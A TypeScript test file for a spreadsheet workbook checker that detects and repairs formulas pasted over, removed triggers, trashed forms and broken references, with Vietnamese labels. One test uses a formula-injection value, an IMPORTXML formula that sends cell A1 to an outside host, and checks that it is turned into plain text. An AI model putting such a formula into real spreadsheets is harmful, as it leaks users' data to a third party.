// What people do to a book by hand in an office, each found, shown, mended, and found no more.

import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OWNER } from '../../../tools/replay/office-world.ts';
import { Morning } from '../bad-input/morning.ts';
import { addColumn, deleteRows } from '../bad-input/shape.ts';
import { check, damageIn, holdsFormula, mend, mendings, pasteFormula } from './damage.ts';

let morning: Morning;
const finance = 'GY-D4-0001';

beforeAll(async () => {
  morning = await Morning.ofFilledBook();
  await morning.openD4();
  await morning.answer('STC', { comment: 'Đề nghị nêu rõ nguồn kinh phí.' });
  await morning.ask('makeDocuments', { roundId: 'D4', kinds: ['BANG_TONG_HOP'] });
  morning.keep();
}, 180_000);
beforeEach(() => morning.again());
afterAll(() => morning.end());

const script = () => morning.runtime.world.script;
const fileOf = (url: string) => {
  const id = /\/d\/([^/]+)/.exec(url)?.[1] ?? url;
  const file = morning.runtime.world.drive.files[id];
  if (file === undefined) throw new Error(`No file ${id}`);
  return file;
};
const computed = (round: string) => holdsFormula(morning, 'rounds', round, 'invited');
const formId = () => morning.row('rounds', 'D4').text('formId');

it('finds nothing to mend in a book that nobody broke', async () => {
  const seen = await check(morning);
  expect(seen.repairs).toEqual([]);
  expect(damageIn(seen)).toEqual([]);
});

describe('values pasted over a computed column', () => {
  beforeEach(async () => {
    await morning.type('rounds', 'D4', 'invited', '30');
    await morning.type('rounds', 'D5', 'invited', '12');
    await morning.type('rounds', 'D6', 'invited', '');
    await morning.type('phases', 'P3', 'health', '=A1');
  });

  it('are shown with their range and what stands there, and the formulas come back', async () => {
    const { repairs } = await check(morning);
    const at = morning.cell('phases', 'P3', 'health');
    const [first, last] = ['D4', 'D6'].map((id) => morning.cell('rounds', id, 'invited'));
    expect(repairs.map(({ what, now, proposed }) => [what, now, proposed])).toEqual([
      [`“Tiến độ” ${at}, cột “Sức khỏe”`, '“=A1”', true],
      [`“Đợt lấy ý kiến” ${first}:${last}, cột “Được hỏi”`, '3 ô mất công thức, ô đầu: “30”', true],
    ]);
    const seen = await mend(morning, repairs);
    expect(seen.sentence).toBe('');
    expect(seen.lines[0]).toMatch(/^Đã sửa 2 chỗ\./);
    expect(computed('D4')).toBe(true);
    expect(mendings(morning).map(([place, field, old]) => [place, field, old])).toEqual([
      [`phases_${at}`, 'health', '[giá trị] =A1'],
      [`rounds_${first}_${last}`, 'invited', '[giá trị] 30 | 12 | '],
    ]);
    expect((await check(morning)).repairs).toEqual([]);
  });

  it('stay where nobody ticked them', async () => {
    const { repairs } = await check(morning);
    await mend(morning, repairs.slice(0, 1));
    expect(morning.row('rounds', 'D4').text('invited')).toBe('30');
    expect((await check(morning)).repairs).toHaveLength(1);
  });

  it('are not mended when somebody changed them since they were shown', async () => {
    const { repairs } = await check(morning);
    await morning.type('rounds', 'D4', 'invited', '31');
    const { code, sentence } = await mend(morning, repairs);
    expect(code).toBe('REPAIR.CHANGED');
    expect(sentence).toContain('chạy lại Sổ Đề án › Kiểm tra sổ');
    expect(morning.row('rounds', 'D4').text('invited')).toBe('31');
    expect(mendings(morning)).toEqual([]);
  });
});

it('a formula of a view that was typed over comes back', async () => {
  const file = morning.runtime.world.spreadsheets[morning.runtime.world.bound?.id ?? ''];
  const view = file?.sheets.find(({ name }) => name === 'Bảng điều hành');
  const row = view?.cells.findIndex((line) => line?.some((cell) => cell?.f !== undefined)) ?? -1;
  const column = view?.cells[row]?.findIndex((cell) => cell?.f !== undefined) ?? -1;
  const address = `${String.fromCharCode(65 + column)}${row + 1}`;
  await morning.runtime.type(OWNER, `'Bảng điều hành'!${address}`, 'xong rồi');
  const { repairs } = await check(morning);
  expect(repairs.map(({ what, now }) => [what, now])).toEqual([
    [`“Bảng điều hành” ${address}`, '“xong rồi”'],
  ]);
  await mend(morning, repairs);
  expect((await check(morning)).repairs).toEqual([]);
});

describe('a formula in a column of words', () => {
  it('that shows something becomes what it shows, as text', async () => {
    pasteFormula(morning, 'comments', finance, 'content', '="Kinh phí: "&1+1');
    pasteFormula(morning, 'bodies', 'STC', 'note', '=1+1');
    const { repairs } = await check(morning);
    expect(repairs.map(({ now, after }) => [now, after])).toEqual([
      ['công thức =1+1', '“2”, không còn công thức'],
      ['công thức ="Kinh phí: "&1+1', '“Kinh phí: 2”, không còn công thức'],
    ]);
    await mend(morning, repairs);
    expect(morning.row('comments', finance).text('content')).toBe('Kinh phí: 2');
    expect(mendings(morning)).toContainEqual([
      finance,
      'content',
      '[công thức] ="Kinh phí: "&1+1',
      '[giá trị] Kinh phí: 2',
    ]);
    expect((await check(morning)).repairs).toEqual([]);
  });

  it('that shows nothing becomes its own words, and computes no more', async () => {
    const hostile = '=IMPORTXML("http://x.vn/?"&A1;"//a")';
    pasteFormula(morning, 'comments', finance, 'content', hostile);
    const { repairs } = await check(morning);
    expect(repairs.map(({ now }) => now)).toEqual([`công thức ${hostile}`]);
    await mend(morning, repairs);
    expect(morning.row('comments', finance).text('content')).toBe(hostile);
    expect(holdsFormula(morning, 'comments', finance, 'content')).toBe(false);
    expect((await check(morning)).repairs).toEqual([]);
  });

  it('that a person keeps in a column of their own is theirs', async () => {
    const at = addColumn(morning, 'bodies');
    const { cells } = morning.book.sheet('bodies');
    cells[morning.row('bodies', 'STC').rowNumber - 1]?.splice(at, 1, { v: '', f: '=1+1' });
    expect((await check(morning)).repairs).toEqual([]);
  });
});

describe('triggers', () => {
  it('that were removed are made again: the day’s, that of the open form', async () => {
    morning.dropTriggers();
    const { repairs } = await check(morning);
    expect(repairs.map(({ what, after }) => [what, after])).toEqual([
      ['Việc hẹn giờ hằng ngày (nhận trả lời, nhắc, gửi thư)', 'tạo lại'],
      ['Việc theo dõi ô lãnh đạo chọn', 'tạo lại'],
      ['Việc nhận trả lời của đợt D4 từ biểu mẫu', 'tạo lại'],
    ]);
    await mend(morning, repairs);
    expect(
      script()
        .triggers.map(({ handler }) => handler)
        .sort(),
    ).toEqual(['dailyTick', 'onBookEdit', 'onFormAnswer']);
    expect((await check(morning)).repairs).toEqual([]);
  });

  it('that serve nothing go, and those of others stay', async () => {
    const daily = script().triggers.find(({ handler }) => handler === 'dailyTick');
    if (daily === undefined) throw new Error('No daily trigger.');
    script().triggers.push(
      { ...daily, id: 'thừa' },
      { ...daily, id: 'khác', handler: 'baoCaoTuan' },
    );
    const { repairs } = await check(morning);
    expect(repairs.map(({ what, after }) => [what, after])).toEqual([
      ['Việc hẹn giờ “dailyTick”', 'bỏ việc hẹn giờ này'],
    ]);
    await mend(morning, repairs);
    expect(script().triggers.map(({ id }) => id)).toContain('khác');
    expect(script().triggers.map(({ id }) => id)).not.toContain('thừa');
    expect((await check(morning)).repairs).toEqual([]);
  });
});

describe('forms and files', () => {
  it('a form in the bin is told where Drive lists forms, and no more once it is back', async () => {
    morning.again([], { 'drive.coversForms': true });
    fileOf(formId()).trashed = true;
    expect(damageIn(await check(morning))).toEqual([
      expect.stringMatching(/^biểu mẫu của đợt D4 đang ở Thùng rác của Drive/),
    ]);
    fileOf(formId()).trashed = false;
    expect(damageIn(await check(morning))).toEqual([]);
  });

  it('a form that was deleted for good is told', async () => {
    delete morning.runtime.world.forms.byId[formId()];
    expect(damageIn(await check(morning))).toEqual([
      expect.stringMatching(/^biểu mẫu của đợt D4 không còn/),
    ]);
  });

  it('a form that somebody closed is told; one left open after its round is closed by the book', async () => {
    const form = () => morning.runtime.world.forms.byId[formId()];
    const set = (accepting: boolean) => Object.assign(form() ?? {}, { accepting });
    set(false);
    expect(damageIn(await check(morning))).toEqual([
      expect.stringMatching(/^đợt D4 đang lấy ý kiến nhưng biểu mẫu không nhận trả lời/),
    ]);
    set(true);
    await morning.ask('closeRound', { roundId: 'D4' });
    set(true);
    const { repairs } = await check(morning);
    expect(repairs.map(({ what, after }) => [what, after])).toEqual([
      ['Biểu mẫu của đợt D4', 'đóng biểu mẫu; câu trả lời đã có vẫn giữ'],
    ]);
    await mend(morning, repairs);
    expect((await check(morning)).repairs).toEqual([]);
  });

  it('a document in the bin, one deleted, and one whose row was deleted are told', async () => {
    const rows = morning.book.rows('documents').filter((row) => row.text('jobKey') !== '');
    const [letter, table] = rows;
    if (letter === undefined || table === undefined) throw new Error('Two documents were made.');
    const file = fileOf(table.text('url'));
    file.trashed = true;
    expect(damageIn(await check(morning))[0]).toContain('tệp đang ở Thùng rác của Drive');
    file.trashed = false;
    deleteRows(morning, 'documents', table.rowNumber);
    const { lines } = await check(morning);
    expect(lines.filter((line) => line.includes('không có hàng nào trong'))).toEqual([
      expect.stringContaining(`tệp “${table.text('fileName')}” do sổ lập`),
    ]);
    delete morning.runtime.world.drive.files[file.id];
    delete morning.runtime.world.drive.files[fileOf(letter.text('url')).id];
    expect(damageIn(await check(morning))).toEqual([
      expect.stringMatching(/: tệp không còn trong Drive/),
    ]);
  });
});

describe('rows that rest on others', () => {
  it('are told with cell, value and remedy; nothing is taken away', async () => {
    await morning.type('comments', finance, 'ownerId', 'TV2');
    deleteRows(morning, 'team', morning.row('team', 'TV2').rowNumber);
    const row = morning.row('comments', finance).rowNumber;
    const seen = await check(morning);
    expect(damageIn(seen)).toEqual([
      expect.stringMatching(/^NV-001: ô “Chủ trì” ghi “TV2”/),
      `${finance}: ô “Người xử lý” ghi “TV2”, không có trong trang “Tổ soạn thảo”. Cách sửa: chọn lại mã đúng, hoặc lấy lại hàng đã xóa từ Tệp › Nhật ký phiên bản (trang “Sổ góp ý”, hàng ${row})`,
    ]);
    expect(seen.repairs).toEqual([]);
  });

  it('and states that do not agree are told, too', async () => {
    const [mail] = morning.book.rows('mailQueue');
    await morning.type('mailQueue', mail?.text('mailId') ?? '', 'sentAt', '');
    await morning.type('comments', finance, 'disposition', 'Giải trình, giữ nguyên dự thảo');
    await morning.type('comments', finance, 'status', 'Đã duyệt');
    expect(damageIn(await check(morning)).map((line) => line.split('.')[0])).toEqual([
      `ý kiến ${finance} ghi đã xử lý nhưng thiếu giải trình`,
      `thư ${mail?.text('mailId')} ghi đã gửi nhưng không có giờ gửi`,
    ]);
  });
});
